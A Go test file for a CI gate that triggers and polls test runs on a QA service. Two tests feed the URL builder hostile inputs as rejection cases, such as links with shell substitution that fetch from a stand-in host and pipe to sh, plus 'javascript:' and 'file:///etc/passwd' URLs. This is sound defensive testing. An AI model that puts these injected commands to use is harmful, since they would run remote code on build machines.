package gate

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/docketqa-gate/docketqa-gate/internal/config"
	"github.com/docketqa-gate/docketqa-gate/internal/docketqa"
	"github.com/docketqa-gate/docketqa-gate/internal/event"
	"github.com/docketqa-gate/docketqa-gate/internal/manifest"
	"github.com/docketqa-gate/docketqa-gate/internal/poll"
	"github.com/docketqa-gate/docketqa-gate/internal/result"
	"github.com/docketqa-gate/docketqa-gate/internal/untrusted"
)

// fakeAPI answers triggers from a script, one group run per call, and
// every GET with the run's scripted final answer. It records what was
// triggered.
type fakeAPI struct {
	mu       sync.Mutex
	triggers [][]int64
	// groups[i] answers the i-th trigger: the runs it starts.
	groups [][]docketqa.TestRun
	// answers maps a run id to what GET /test_run/{id} returns.
	answers map[int64]docketqa.TestRun
	// running maps a run id to how many polls see it still running
	// before its answer.
	running map[int64]int
	gets    int
}

func (f *fakeAPI) Trigger(_ context.Context, ids []int64) (*docketqa.GroupRun, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := len(f.triggers)
	f.triggers = append(f.triggers, slices.Clone(ids))
	if n >= len(f.groups) {
		return nil, fmt.Errorf("unexpected trigger %d of %v", n+1, ids)
	}
	return &docketqa.GroupRun{ID: int64(100 + n), Runs: f.groups[n]}, nil
}

func (f *fakeAPI) GetRun(_ context.Context, id int64) (*docketqa.TestRun, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.gets++
	if f.running[id] > 0 {
		f.running[id]--
		return &docketqa.TestRun{ID: id, Status: "running"}, nil
	}
	a, ok := f.answers[id]
	if !ok {
		return nil, &docketqa.APIError{Endpoint: fmt.Sprintf("GET /test_run/%d", id), StatusCode: 404}
	}
	return &a, nil
}

func (f *fakeAPI) triggered() [][]int64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.triggers)
}

// recorder is an event.Sink that keeps every event.
type recorder struct {
	mu     sync.Mutex
	events []event.Event
}

func (r *recorder) Emit(e event.Event) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, e)
}

func (r *recorder) has(match func(event.Event) bool) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.ContainsFunc(r.events, match)
}

func run(id, bp int64, status string) docketqa.TestRun {
	return docketqa.TestRun{ID: id, BlueprintID: bp, Status: untrusted.Text(status)}
}

func testConfig(ids ...int64) config.Config {
	return config.Config{
		BlueprintIDs: ids, BaseURL: "http://127.0.0.1:1", DashboardURL: "https://app.example",
		Timeout: time.Minute, PollInterval: time.Millisecond, MaxPollInterval: time.Millisecond,
		MaxParallel: 4, NotFoundGrace: 50 * time.Millisecond, FailOnNoVerdict: true, FailOnMissing: true,
	}
}

// fixed polls every run every millisecond, so tests take milliseconds.
var fixed = poll.Fixed{Every: time.Millisecond}

func runGate(t *testing.T, cfg config.Config, api *fakeAPI) (Outcome, *recorder) {
	t.Helper()
	rec := &recorder{}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	return Run(ctx, cfg, Deps{API: api, Sink: rec, Strategy: fixed}), rec
}

func byName(set result.Set) map[string]result.Run {
	m := map[string]result.Run{}
	for _, r := range set.Runs {
		m[r.Name()] = r
	}
	return m
}

// TestIdentityComesFromTheTrigger: a poll answer claiming another
// blueprint never renames a run, never triggers the claimed blueprint, and
// never turns the run's failure into anything else than "no verdict".
func TestIdentityComesFromTheTrigger(t *testing.T) {
	t.Parallel()
	for _, claimed := range []int64{181, 999} {
		for _, reruns := range []int{0, 1} {
			t.Run(fmt.Sprintf("claims %d, reruns %d", claimed, reruns), func(t *testing.T) {
				t.Parallel()
				api := &fakeAPI{
					groups:  [][]docketqa.TestRun{{run(1000, 180, "running"), run(1001, 181, "running")}},
					answers: map[int64]docketqa.TestRun{1000: run(1000, claimed, "failed"), 1001: run(1001, 181, "passed")},
				}
				cfg := testConfig(180, 181)
				cfg.RerunFailed = reruns
				out, _ := runGate(t, cfg, api)
				runs := byName(out.Set)
				r, ok := runs["blueprint 180"]
				if !ok {
					t.Fatalf("blueprint 180 vanished: %v", out.Set.Runs)
				}
				if r.Verdict != result.Error || !strings.Contains(r.Reason, fmt.Sprintf("blueprint %d", claimed)) || !strings.Contains(r.Reason, "blueprint 180") {
					t.Errorf("run of 180: verdict %s, reason %q; want no verdict naming both blueprints", r.Verdict, r.Reason)
				}
				if got := len(out.Set.Runs); got != 2 {
					t.Errorf("%d runs reported, want 2", got)
				}
				if tr := api.triggered(); len(tr) != 1 {
					t.Errorf("triggers %v: a disputed run must not be rerun, and no other blueprint triggered", tr)
				}
				if v := judge(out).Outcome; v == result.Passed {
					t.Errorf("verdict %s", v)
				}
			})
		}
	}
}

// TestSeveralRunsOfOneBlueprint: every run the trigger answer lists for a
// blueprint is polled and reported under its own name; the blueprint
// passes only if all of them passed.
func TestSeveralRunsOfOneBlueprint(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{
		groups:  [][]docketqa.TestRun{{run(1000, 180, "running"), run(1001, 180, "running")}},
		answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "failed"), 1001: run(1001, 180, "passed")},
	}
	out, _ := runGate(t, testConfig(180), api)
	runs := byName(out.Set)
	if len(runs) != 2 || runs["blueprint 180, run 1000"].Verdict != result.Failed || runs["blueprint 180, run 1001"].Verdict != result.Passed {
		t.Fatalf("runs = %v", out.Set.Runs)
	}
	if v := judge(out).Outcome; v != result.Failed {
		t.Errorf("verdict %s, want failed", v)
	}
}

// TestRerunOfASharedBlueprint: a blueprint with a failed and a passed run
// is rerun once; the rerun's runs replace both, which become earlier
// attempts, and a rerun answer that again holds a failure keeps it failed.
func TestRerunOfASharedBlueprint(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name        string
		rerunRuns   []docketqa.TestRun
		answers     map[int64]docketqa.TestRun
		wantVerdict result.Outcome
		wantRuns    int
	}{
		{
			name:        "rerun passes",
			rerunRuns:   []docketqa.TestRun{run(2000, 180, "running")},
			answers:     map[int64]docketqa.TestRun{2000: run(2000, 180, "passed")},
			wantVerdict: result.Passed, wantRuns: 1,
		},
		{
			name:        "rerun answer holds a pass and a failure",
			rerunRuns:   []docketqa.TestRun{run(2000, 180, "running"), run(2001, 180, "running")},
			answers:     map[int64]docketqa.TestRun{2000: run(2000, 180, "passed"), 2001: run(2001, 180, "failed")},
			wantVerdict: result.Failed, wantRuns: 2,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			answers := map[int64]docketqa.TestRun{1000: run(1000, 180, "failed"), 1001: run(1001, 180, "passed")}
			for id, a := range tc.answers {
				answers[id] = a
			}
			api := &fakeAPI{
				groups:  [][]docketqa.TestRun{{run(1000, 180, "running"), run(1001, 180, "running")}, tc.rerunRuns},
				answers: answers,
			}
			cfg := testConfig(180)
			cfg.RerunFailed = 1
			out, _ := runGate(t, cfg, api)
			if tr := api.triggered(); len(tr) != 2 || !slices.Equal(tr[1], []int64{180}) {
				t.Errorf("triggers = %v, want [[180] [180]]", tr)
			}
			tally := judge(out)
			if tally.Outcome != tc.wantVerdict || len(out.Set.Runs) != tc.wantRuns {
				t.Fatalf("verdict %s with %d runs, want %s with %d: %+v", tally.Outcome, len(out.Set.Runs), tc.wantVerdict, tc.wantRuns, out.Set.Runs)
			}
			first := out.Set.Runs[0]
			if len(first.Earlier) != 2 || first.Attempts != 3 {
				t.Errorf("first rerun run has %d earlier attempts and %d attempts, want 2 and 3: %+v", len(first.Earlier), first.Attempts, first)
			}
		})
	}
}

// TestUnrequestedRunsAreIgnored: a trigger answer listing a run for a
// blueprint nobody asked for does not poll or report it, says so once, and
// a requested blueprint without a run is an error result.
func TestUnrequestedRunsAreIgnored(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{
		groups:  [][]docketqa.TestRun{{run(1000, 999, "running")}},
		answers: map[int64]docketqa.TestRun{1000: run(1000, 999, "passed")},
	}
	out, rec := runGate(t, testConfig(180), api)
	if len(out.Set.Runs) != 1 || out.Set.Runs[0].BlueprintID != 180 || out.Set.Runs[0].Verdict != result.Error {
		t.Fatalf("runs = %+v, want one error result for blueprint 180", out.Set.Runs)
	}
	if !rec.has(func(e event.Event) bool {
		u, ok := e.(event.UnrequestedRuns)
		return ok && slices.Equal(u.BlueprintIDs, []int64{999})
	}) {
		t.Error("no UnrequestedRuns event")
	}
	if !rec.has(func(e event.Event) bool {
		m, ok := e.(event.MissingRuns)
		return ok && slices.Equal(m.BlueprintIDs, []int64{180})
	}) {
		t.Error("no MissingRuns event")
	}
}

// TestRerunCap: with more failed blueprints than --rerun-max-failures, no
// rerun is triggered and the reason is said.
func TestRerunCap(t *testing.T) {
	t.Parallel()
	var runs []docketqa.TestRun
	answers := map[int64]docketqa.TestRun{}
	var ids []int64
	for i := range int64(3) {
		runs = append(runs, run(1000+i, 180+i, "running"))
		answers[1000+i] = run(1000+i, 180+i, "failed")
		ids = append(ids, 180+i)
	}
	api := &fakeAPI{groups: [][]docketqa.TestRun{runs}, answers: answers}
	cfg := testConfig(ids...)
	cfg.RerunFailed, cfg.RerunMaxFailures = 2, 2
	out, rec := runGate(t, cfg, api)
	if tr := api.triggered(); len(tr) != 1 {
		t.Errorf("triggers = %v, want only the first", tr)
	}
	if !rec.has(func(e event.Event) bool { s, ok := e.(event.RerunSkipped); return ok && s.Failed == 3 && s.Max == 2 }) {
		t.Error("no RerunSkipped event")
	}
	if judge(out).Tally.Failed != 3 {
		t.Errorf("tally = %+v", judge(out).Tally)
	}
}

// TestMergeRerunKeepsUndecidedFailure: a rerun that got no verdict leaves
// the earlier failure standing, with the rerun listed as an attempt.
func TestMergeRerunKeepsUndecidedFailure(t *testing.T) {
	t.Parallel()
	prev := []result.Run{
		{BlueprintID: 1, RunID: 10, Verdict: result.Failed, Attempts: 1},
		{BlueprintID: 2, RunID: 20, Verdict: result.Passed, Attempts: 1},
	}
	next := []result.Run{{BlueprintID: 1, RunID: 11, Verdict: result.Error, Reason: "no result", Attempts: 1}}
	got := mergeRerun(prev, []int64{1}, next)
	if len(got) != 2 || got[0].RunID != 10 || got[0].Verdict != result.Failed || got[0].Attempts != 2 ||
		len(got[0].Earlier) != 1 || got[0].Earlier[0].RunID != 11 || got[1].RunID != 20 {
		t.Errorf("merge = %+v", got)
	}
}

// TestTriggerFailureIsReportedOnce: one TriggerFailed event, whatever the
// number of blueprints, and every blueprint in the set.
func TestTriggerFailureIsReportedOnce(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{}
	out, rec := runGate(t, testConfig(1, 2, 3), api)
	n := 0
	for _, e := range rec.events {
		if _, ok := e.(event.TriggerFailed); ok {
			n++
		}
	}
	if n != 1 || out.Stop != result.StopTriggerFailed || len(out.Set.Runs) != 3 {
		t.Errorf("%d TriggerFailed events, stop %s, %d runs", n, out.Stop, len(out.Set.Runs))
	}
}

// TestDetachTriggersAndRecords: --detach triggers once, polls nothing and
// returns the manifest to record, missing blueprints included.
func TestDetachTriggersAndRecords(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{groups: [][]docketqa.TestRun{{run(1000, 180, "running")}}}
	cfg := testConfig(180, 181)
	cfg.Detach = "runs.json"
	out, _ := runGate(t, cfg, api)
	if out.Stop != result.StopDetached || out.Manifest == nil || api.gets != 0 {
		t.Fatalf("stop %s, manifest %+v, %d GETs", out.Stop, out.Manifest, api.gets)
	}
	if len(out.Manifest.Runs) != 1 || out.Manifest.Runs[0].RunID != 1000 || !slices.Equal(out.Manifest.MissingBlueprintIDs, []int64{181}) {
		t.Errorf("manifest = %+v", out.Manifest)
	}
}

// TestFailFastWaitsForReruns: with reruns left, a failure is not final, so
// fail-fast keeps waiting for the others; on the last attempt it stops.
func TestFailFastWaitsForReruns(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{
		groups: [][]docketqa.TestRun{{run(1000, 180, "running"), run(1001, 181, "running")}, {run(2000, 180, "running")}},
		answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "failed"), 1001: run(1001, 181, "passed"),
			2000: run(2000, 180, "failed")},
		running: map[int64]int{1001: 20},
	}
	cfg := testConfig(180, 181)
	cfg.FailFast, cfg.RerunFailed = true, 1
	out, _ := runGate(t, cfg, api)
	runs := byName(out.Set)
	if r := runs["blueprint 181"]; r.Verdict != result.Passed || r.NotAwaited {
		t.Errorf("blueprint 181 = %+v: fail-fast must wait while reruns remain", r)
	}
	if r := runs["blueprint 180"]; r.Verdict != result.Failed || r.Attempts != 2 {
		t.Errorf("blueprint 180 = %+v, want failed after 2 attempts", r)
	}
}

// TestRerunsUntilPass: a blueprint that fails twice and then passes needs
// every allowed rerun, keeps its title and is flaky.
func TestRerunsUntilPass(t *testing.T) {
	t.Parallel()
	titled := func(id, bp int64, status string) docketqa.TestRun {
		r := run(id, bp, status)
		if id == 1000 {
			r.Title = untrusted.Text("Checkout")
		}
		return r
	}
	api := &fakeAPI{
		groups: [][]docketqa.TestRun{{titled(1000, 180, "running")}, {run(2000, 180, "running")}, {run(3000, 180, "running")}},
		answers: map[int64]docketqa.TestRun{1000: titled(1000, 180, "failed"), 2000: run(2000, 180, "failed"),
			3000: run(3000, 180, "passed")},
	}
	cfg := testConfig(180)
	cfg.RerunFailed = 2
	out, rec := runGate(t, cfg, api)
	if tr := api.triggered(); len(tr) != 3 {
		t.Fatalf("triggers = %v, want 3", tr)
	}
	r := out.Set.Runs[0]
	if len(out.Set.Runs) != 1 || r.Verdict != result.Passed || !r.Flaky || r.Attempts != 3 || r.Title != "Checkout" || r.RunID != 3000 {
		t.Errorf("run = %+v", r)
	}
	if rec.has(func(e event.Event) bool {
		_, u := e.(event.UnrequestedRuns)
		_, m := e.(event.MissingRuns)
		return u || m
	}) {
		t.Error("UnrequestedRuns or MissingRuns emitted with nothing to say")
	}
}

// TestRerunCapBoundary: exactly --rerun-max-failures failures still rerun;
// 0 means no cap.
func TestRerunCapBoundary(t *testing.T) {
	t.Parallel()
	for _, limit := range []int{0, 2} {
		api := &fakeAPI{
			groups: [][]docketqa.TestRun{{run(1000, 180, "running"), run(1001, 181, "running")},
				{run(2000, 180, "running"), run(2001, 181, "running")}},
			answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "failed"), 1001: run(1001, 181, "failed"),
				2000: run(2000, 180, "passed"), 2001: run(2001, 181, "passed")},
		}
		cfg := testConfig(180, 181)
		cfg.RerunFailed, cfg.RerunMaxFailures = 1, limit
		out, _ := runGate(t, cfg, api)
		if tr := api.triggered(); len(tr) != 2 || judge(out).Outcome != result.Passed {
			t.Errorf("limit %d: triggers %v, verdict %s", limit, tr, judge(out).Outcome)
		}
	}
}

// TestFailFastOnlyOnTheLastRerun: during a rerun that is not the last, a
// failure is not final either, so fail-fast still waits for the others.
func TestFailFastOnlyOnTheLastRerun(t *testing.T) {
	t.Parallel()
	api := &fakeAPI{
		groups: [][]docketqa.TestRun{
			{run(1000, 180, "running"), run(1001, 181, "running")},
			{run(2000, 180, "running"), run(2001, 181, "running")},
			{run(3000, 180, "running")},
		},
		answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "failed"), 1001: run(1001, 181, "failed"),
			2000: run(2000, 180, "failed"), 2001: run(2001, 181, "passed"), 3000: run(3000, 180, "failed")},
		running: map[int64]int{2001: 20},
	}
	cfg := testConfig(180, 181)
	cfg.FailFast, cfg.RerunFailed = true, 2
	out, _ := runGate(t, cfg, api)
	if r := byName(out.Set)["blueprint 181"]; r.Verdict != result.Passed || !r.Flaky {
		t.Errorf("blueprint 181 = %+v: its rerun must be awaited while another rerun remains", r)
	}
	if tr := api.triggered(); len(tr) != 3 {
		t.Errorf("triggers = %v, want 3", tr)
	}
}

// judge is the verdict on out under cfg's default policies.
func judge(out Outcome) result.Verdict {
	return result.Judge(out.Set, result.Policy{}, out.Stop)
}

// TestPartialRerunKeepsTheFailure (issue: a partial rerun erased a known
// failure): 182 fails; its rerun answer holds two runs for 182, one passes
// and one never finishes. The blueprint stays failed (exit 1) under every
// policy, and its run shows the failure and both rerun attempts, the
// unfinished one as an attempt without verdict.
func TestPartialRerunKeepsTheFailure(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name    string
		timeout time.Duration
		running map[int64]int
	}{
		// The second rerun run is unknown to the API: 404 past the grace.
		{name: "rerun run never found"},
		// The second rerun run is still running when the deadline passes.
		{name: "rerun run still running at the deadline", timeout: 300 * time.Millisecond, running: map[int64]int{2001: 1 << 30}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			answers := map[int64]docketqa.TestRun{1000: run(1000, 181, "passed"), 1001: run(1001, 182, "failed"), 2000: run(2000, 182, "passed")}
			if tc.running != nil {
				answers[2001] = run(2001, 182, "passed")
			}
			api := &fakeAPI{
				groups:  [][]docketqa.TestRun{{run(1000, 181, "running"), run(1001, 182, "running")}, {run(2000, 182, "running"), run(2001, 182, "running")}},
				answers: answers,
				running: tc.running,
			}
			cfg := testConfig(181, 182)
			cfg.RerunFailed = 1
			if tc.timeout > 0 {
				cfg.Timeout = tc.timeout
			}
			out, _ := runGate(t, cfg, api)
			for _, p := range []result.Policy{{}, {AllowNoVerdict: true}, {AllowMissing: true}, {AllowNoVerdict: true, AllowMissing: true}} {
				v := result.Judge(out.Set, p, out.Stop)
				if v.Outcome != result.Failed || v.Exit != result.ExitFailed || v.Tally.Failed != 1 {
					t.Errorf("policy %+v: %s, exit %d, tally %+v; want failed, exit 1", p, v.Outcome, v.Exit, v.Tally)
				}
			}
			r := byName(out.Set)["blueprint 182"]
			if r.Verdict != result.Failed || r.RunID != 1001 || len(r.Earlier) != 2 {
				t.Fatalf("blueprint 182 = %+v, want the failure 1001 with both rerun runs as attempts", r)
			}
			verdicts := map[result.Outcome]int64{}
			for _, a := range r.Earlier {
				verdicts[a.Verdict] = a.RunID
			}
			if verdicts[result.Passed] != 2000 || verdicts[result.Error] != 2001 {
				t.Errorf("attempts = %+v, want 2000 passed and 2001 without verdict", r.Earlier)
			}
		})
	}
}

// TestMergeRerun: the rule for one blueprint's rerun, run by run.
func TestMergeRerun(t *testing.T) {
	t.Parallel()
	failed := result.Run{BlueprintID: 1, RunID: 10, Verdict: result.Failed, Attempts: 1}
	for _, tc := range []struct {
		name     string
		next     []result.Outcome
		replaced bool
	}{
		{"all passed", []result.Outcome{result.Passed, result.Passed}, true},
		{"failed again", []result.Outcome{result.Failed}, true},
		{"failed again and unfinished", []result.Outcome{result.Failed, result.Error}, true},
		{"passed and unfinished", []result.Outcome{result.Passed, result.Error}, false},
		{"unfinished", []result.Outcome{result.Error}, false},
		{"no run at all", nil, false},
	} {
		var next []result.Run
		for i, o := range tc.next {
			next = append(next, result.Run{BlueprintID: 1, RunID: int64(20 + i), Verdict: o, Attempts: 1})
		}
		got := mergeRerun([]result.Run{failed}, []int64{1}, next)
		if tc.replaced {
			if len(got) != len(next) || got[0].RunID != 20 || len(got[0].Earlier) != 1 || got[0].Earlier[0].RunID != 10 {
				t.Errorf("%s: merge = %+v, want the rerun's runs with the failure as an earlier attempt", tc.name, got)
			}
			continue
		}
		if len(got) != 1 || got[0].RunID != 10 || got[0].Verdict != result.Failed || len(got[0].Earlier) != len(next) || got[0].Attempts != 1+len(next) {
			t.Errorf("%s: merge = %+v, want the failure kept with the rerun as attempts", tc.name, got)
		}
	}
}

func TestGroupRunLinkIsRebuilt(t *testing.T) {
	t.Parallel()
	const phish = "https://phish.example/x/$(curl${IFS}phish.example|sh)"
	api := &fakeAPI{answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "passed")}}
	cfg := testConfig()
	cfg.Attach = "runs.json"
	rec := &recorder{}
	m := &manifest.Manifest{Version: manifest.Version, GroupRunID: 35, DashboardURL: phish, Runs: []manifest.Run{{RunID: 1000, BlueprintID: 180}}}
	out := Run(context.Background(), cfg, Deps{API: api, Sink: rec, Strategy: fixed, Manifest: m})
	const want = "https://app.example/dashboard/grouprun/35"
	if out.Set.GroupRunURL != want {
		t.Errorf("group run link %q, want %q", out.Set.GroupRunURL, want)
	}
	if !rec.has(func(e event.Event) bool { p, ok := e.(event.Plan); return ok && p.GroupRunURL == want }) {
		t.Error("the plan does not carry the rebuilt link")
	}
	for _, e := range rec.events {
		if strings.Contains(fmt.Sprintf("%+v", e), "phish") {
			t.Errorf("an event carries the manifest's link: %+v", e)
		}
	}
}

func TestGroupRunURL(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		root string
		id   int64
		want string
	}{
		{"https://app.docketqa.com", 35, "https://app.docketqa.com/dashboard/grouprun/35"},
		{"https://app.docketqa.com/", 35, "https://app.docketqa.com/dashboard/grouprun/35"},
		{"http://127.0.0.1:8080/prefix", 7, "http://127.0.0.1:8080/prefix/dashboard/grouprun/7"},
		{"https://app.example/a-b_c.d~e/f", 7, "https://app.example/a-b_c.d~e/f/dashboard/grouprun/7"},
		{"http://[::1]:8080", 7, "http://[::1]:8080/dashboard/grouprun/7"},
		// Shell syntax net/url keeps as is: never in a link.
		{"https://phish.example/x/$(curl$IFS-o$IFS/tmp/p$IFS'phish.example/p')$(sh$IFS/tmp/p)", 7, ""},
		{"https://app.example/x;id", 7, ""},
		{"https://app.example/`id`", 7, ""},
		{"https://app.example/a%20b", 7, ""},
		{"https://app.example/a%2Fb", 7, ""},
		{"https://app$(id).example", 7, ""},
		{"https://app.example/?q=1", 7, ""},
		{"https://app.example/#f", 7, ""},
		{"https://app.example/?", 7, ""},
		{"https://user:pw@app.example", 7, ""},
		{"javascript:alert(1)", 7, ""},
		{"file:///etc/passwd", 7, ""},
		{"https://app.example", 0, ""},
		{"https://app.example", -3, ""},
	} {
		if got := GroupRunURL(tc.root, tc.id); got != tc.want {
			t.Errorf("GroupRunURL(%q, %d) = %q, want %q", tc.root, tc.id, got, tc.want)
		}
	}
}

// TestPollWindow: the last look at unfinished runs ends by --timeout; it
// gets a tenth of it, never more than 15 s, never nothing.
func TestPollWindow(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 12, 7, 3, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		timeout, final time.Duration
	}{
		{30 * time.Minute, 15 * time.Second},
		{150 * time.Second, 15 * time.Second},
		{149 * time.Second, 14900 * time.Millisecond},
		{5 * time.Second, 500 * time.Millisecond},
		{5 * time.Millisecond, time.Millisecond},
	} {
		until, final := pollWindow(at, tc.timeout)
		if final != tc.final || !until.Equal(at.Add(-tc.final)) {
			t.Errorf("timeout %s: poll until %s, final fetch %s; want %s and %s", tc.timeout, until.Sub(at), final, -tc.final, tc.final)
		}
	}
}

// TestOnlyRunes pins the edges of the characters a link root may hold:
// the letters and digits themselves, and their ASCII neighbours, which
// a shell or a URL parser may treat specially.
func TestOnlyRunes(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"a", "z", "A", "Z", "0", "9", "aZ09", ""} {
		if !onlyRunes(s, "") {
			t.Errorf("onlyRunes(%q) = false, want true", s)
		}
	}
	for _, s := range []string{"`", "{", "@", "[", "/", ":", "$", "é", "a b"} {
		if onlyRunes(s, "") {
			t.Errorf("onlyRunes(%q) = true, want false", s)
		}
	}
	if !onlyRunes("a-b.c", "-.") || onlyRunes("a-b.c", "-") {
		t.Error("extra runes are not honoured exactly")
	}
}
